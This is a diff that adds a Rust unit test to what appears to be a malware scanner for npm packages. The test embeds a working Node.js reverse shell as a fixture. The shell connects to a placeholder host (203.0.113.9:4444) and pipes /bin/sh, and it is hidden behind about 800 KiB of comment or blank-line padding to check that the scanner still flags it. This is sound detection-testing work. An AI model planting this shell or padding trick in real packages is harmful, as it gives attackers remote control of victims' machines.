@@ -81,6 +81,22 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
 mod tests {
     use crate::rules::test_util::{PJ, hits, scan};
 
+    /// A reverse shell after 800 KiB of comment lines (or blank lines) is no bundle: padding
+    /// does not make module-level code far from itself.
+    #[test]
+    fn positive_after_comment_and_blank_padding() {
+        let shell = "const net = require('net');\nconst { spawn } = require('child_process');\nconst c = net.connect(4444, '203.0.113.9');\nconst sh = spawn('/bin/sh', []);\nc.pipe(sh.stdin);\nsh.stdout.pipe(c);\n";
+        for pad in [
+            "// aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=\n".repeat(12_000),
+            "\n".repeat(800 * 1024),
+        ] {
+            let src = format!("{pad}{shell}");
+            let s = scan(&[("package.json", PJ), ("setup.js", &src)]);
+            assert_eq!(hits(&s, "code/reverse-shell").len(), 1, "{:?}", s.findings);
+            assert_eq!(s.verdict, crate::Verdict::Malicious);
+        }
+    }
+
     /// rsbuild bundles `open` (PowerShell to open a URL on Windows); the only `http` import in
     /// the package is in a type declaration file, which runs nothing.
     #[test]
